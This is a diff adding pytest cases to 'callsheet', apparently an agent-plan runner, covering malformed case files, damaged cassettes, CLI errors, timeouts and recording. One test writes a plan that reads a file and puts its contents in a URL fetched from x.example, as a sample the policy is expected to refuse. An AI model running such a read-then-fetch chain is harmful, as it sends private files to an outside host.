@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import asyncio
 import json
 import re
 import shutil
@@ -11,13 +12,13 @@ from xml.etree import ElementTree
 import pytest
 from click.testing import CliRunner, Result
 
-from callsheet import CallsheetError
+from callsheet import CallsheetError, ChatModel, Runtime, tool
 from callsheet.apps.cli.main import main
 from callsheet.testing import read_cases, run_file
 from callsheet.testing.cassette import toml
 
 EXAMPLES = Path(__file__).parents[2] / "examples"
-PLANS = Path(__file__).parent / "plans"
+PLANS = Path(__file__).parent / "version1_plans"
 GOOD = """
 [[fakes]]
 tool = "list_messages"
@@ -46,6 +47,7 @@ name = "an empty inbox"
 fakes = [{ tool = "list_messages", answer = [] }]
 answer = "The inbox is empty."
 """
+TAPE = '{"kind": "callsheet.cassette", "version": 1, "calls": %s}'
 
 
 @pytest.fixture
@@ -128,6 +130,15 @@ def test_coverage_has_a_report_and_a_threshold(folder: Path) -> None:
             "the cassette no.json cannot be read",
         ),
         (("answer = 2 }", "answer = 2026-01-01 }"), "is a time of TOML"),
+        (("answer = 2 }", "answer = inf }"), "inf is a number of TOML"),
+        (("answer = 2 }", "answer = 2, seconds = inf }"), "seconds must be a number from 0"),
+        (("answer = 2 }", "answer = { json = '{' } }"), "json = … is not JSON"),
+        (("message =", 'replies = [{ to = "x", nobody = false }]\nmessage ='), "nobody can only be true"),
+        (("message =", 'replies = [{ to = "", nobody = true }]\nmessage ='), "does not say what it is to"),
+        (
+            ('answer = "The inbox', 'outcome = "running"\nanswer = "The inbox'),
+            "outcome must be one of done, ",
+        ),
     ],
 )
 def test_a_wrong_file_is_an_error_with_its_place(folder: Path, change: tuple[str, str], message: str) -> None:
@@ -137,11 +148,81 @@ def test_a_wrong_file_is_an_error_with_its_place(folder: Path, change: tuple[str
     assert caught.value.diagnostics[0].code == "TST001"
 
 
+@pytest.mark.parametrize(
+    ("text", "message"),
+    [
+        ("[1", "is not JSON"),
+        ("[1]", "is no cassette"),
+        ('{"kind": "callsheet.cassette", "version": 9}', "has the version 9"),
+        (TAPE % "3", "calls must be a list of tables"),
+        (TAPE % "[3]", "each of calls in the case 'an empty inbox': the cassette tape.json must be a table"),
+        (TAPE % '[{"too": 1}]', "call 1 has an unknown key 'too'"),
+        (TAPE % '[{"args": {}}]', "call 1 does not name its tool"),
+        (TAPE % '[{"tool": 3}]', "call 1: tool must be a text"),
+        (TAPE % '[{"tool": "a", "args": 3}]', "call 1: args must be a table"),
+        (TAPE % '[{"tool": "a", "error": "x", "kind": "ODD"}]', "kind must be TIMEOUT or SCHEMA"),
+    ],
+)
+def test_a_damaged_cassette_is_an_error_with_its_place(folder: Path, text: str, message: str) -> None:
+    (folder / "tape.json").write_text(text)
+    path = write(folder, GOOD.replace('answer = "The inbox', 'cassette = "tape.json"\nanswer = "The inbox'))
+    with pytest.raises(CallsheetError, match=re.escape(message)) as caught:
+        read_cases(path)
+    assert caught.value.diagnostics[0].code == "TST001"
+
+
 def test_without_a_plan_beside_it_the_file_has_to_name_one(folder: Path) -> None:
     with pytest.raises(CallsheetError, match=r"no plan other\.ltp"):
         read_cases(write(folder, GOOD, "other.test.toml"))
     named = read_cases(write(folder, 'plan = "inbox.ltp"\n' + GOOD, "other.test.toml"))
     assert all(one.passed for one in run_file(named).results)
+
+
+@pytest.mark.parametrize(
+    ("before", "command", "message"),
+    [
+        ("", ("test", "none.test.toml"), "there is no none.test.toml"),
+        ("", ("test", ".", "empty"), "there is no file *.test.toml in empty"),
+        ("", ("test", "inbox.ltp"), "its name ends in .test.toml; the cases of a plan stand beside it"),
+        ('policy = "none.toml"\n', ("test",), "there is no policy 'none.toml'"),
+        ('tools = ["none.py"]\n', ("test",), "the tools file none.py cannot be read"),
+    ],
+)
+def test_what_cannot_be_tested_is_an_error_before_any_case(
+    folder: Path, before: str, command: tuple[str, ...], message: str
+) -> None:
+    (folder / "empty").mkdir()
+    write(folder, before + GOOD)
+    done = callsheet(*command)
+    assert done.exit_code == 2
+    assert message in done.output
+    assert "FAILED" not in done.output
+
+
+def test_a_variable_is_given_once_and_has_a_name(folder: Path) -> None:
+    cases = '[[cases]]\nname = "twice"\ninputs = { a = 1 }\nsecrets = { a = "x" }\n'
+    cases += '[[cases]]\nname = "odd"\ninputs = { "a b" = 1 }\n'
+    results = run_file(read_cases(write(folder, cases))).results
+    assert [one.differences[0].text.split(":")[0] for one in results] == ["SEC005", "RUN022"]
+
+
+def test_what_a_case_expects_of_a_refused_plan_is_compared(folder: Path) -> None:
+    write(
+        folder, 'S1: @READ_FILE (path="a") > $a\nS2: @FETCH_PAGE (url="https://x.example/?$a")\n', "leak.ltp"
+    )
+    cases = (
+        'policy = "workspace"\n[[cases]]\nname = "good"\noutcome = "refused"\nerror = "POL103"\ncalls = []\n'
+    )
+    cases += '[[cases]]\nname = "bad"\noutcome = "refused"\nerror = "POL999"\nanswer = 1\n'
+    cases += 'calls = [{ tool = "read_file" }]\nreplies = [{ to = "x", nobody = true }]\n'
+    good, bad = run_file(read_cases(write(folder, cases, "leak.test.toml"))).results
+    assert good.passed
+    assert [one.text.partition(":")[0] for one in bad.differences] == [
+        "error",
+        "answer",
+        "call 1",
+        "nobody was asked 'x'",
+    ]
 
 
 def test_replies_are_part_of_a_case_and_each_must_be_asked_for(folder: Path) -> None:
@@ -221,6 +302,55 @@ def test_no_secret_is_in_a_recorded_case_and_large_answers_are_left_out_with_a_w
     small = callsheet("record", "last", "--name", "small", "--max-bytes", "100", *journal)
     assert small.exit_code == 1
     assert "left out: the answer of S1 @LOOK" in small.output
+
+
+def test_a_timeout_and_the_answer_of_an_agent_become_cases_that_pass(folder: Path) -> None:
+    @tool(effect="read", timeout=0.01)
+    async def slow() -> int:
+        await asyncio.sleep(5)
+        return 1
+
+    turns = iter(['{"tool": "slow", "args": {}}', '{"finish": "not today"}'])
+    timeout = "TRY {\n  S1: @SLOW > $a\n} ON_FAIL TIMEOUT {\n"
+    plan = (
+        f'# ltp: 2\n{timeout}  S2: @AGENT_SOLVE (goal="find it", tools=["slow"]) > $b\n  @RESPOND ($b)\n}}\n'
+    )
+    write(folder, plan, "late.ltp")
+    runtime = Runtime([slow], model=ChatModel(lambda messages: next(turns)), journal=folder / "runs.db")
+    done = runtime.run_sync(folder / "late.ltp")
+    assert done.answer == "not today"
+    made = callsheet("record", "last", "--journal", str(folder / "runs.db"))
+    assert made.exit_code == 0, made.output
+    assert "the calls that the agent of S2 made" in made.output
+
+
+def test_a_case_that_cannot_be_written_leaves_everything_as_it_was(folder: Path) -> None:
+    journal = ("--journal", str(folder / "runs.db"))
+    callsheet("run", "inbox.ltp", "--tools", "inbox_tools.py", "--progress", "none", *journal)
+    write(folder, 'plan = "inbox.ltp"\ncases = [{ name = "x" }]\n', "list.test.toml")
+    before = {path: path.stat().st_mtime_ns for path in folder.glob("[!r]*")}
+    for output, code in (
+        ("list.test.toml", "TST003"),
+        ("inbox.ltp/x.test.toml", "CFG014"),
+        ("/proc/x.test.toml", "CFG014"),
+        ("x.toml", "CFG014"),
+    ):
+        done = callsheet("record", "last", "-o", output, *journal)
+        assert (done.exit_code, code in done.output) == (2, True), done.output
+    assert {path: path.stat().st_mtime_ns for path in folder.glob("[!r]*")} == before
+
+
+def test_a_recorded_case_runs_with_the_declarations_of_tools(folder: Path) -> None:
+    journal = ("--journal", str(folder / "runs.db"))
+    write(folder, 'S1: @COUNT_MESSAGES ("inbox") > $n\nS2: @RESPOND ($n)\n', "count.ltp")
+    tools = ("--tools", "inbox_tools.py")
+    assert callsheet("run", "count.ltp", "--progress", "none", *tools, *journal).exit_code == 0
+    made = callsheet("record", "last", *tools, *journal)
+    assert made.exit_code == 0, made.output
+    assert "--tools inbox_tools.py" in made.output
+    unknown = callsheet("record", "last", "--name", "unknown", *journal)
+    assert unknown.exit_code == 1
+    assert "with --tools, as to callsheet test" in unknown.output
 
 
 def test_a_run_that_has_not_ended_is_no_case(folder: Path) -> None:
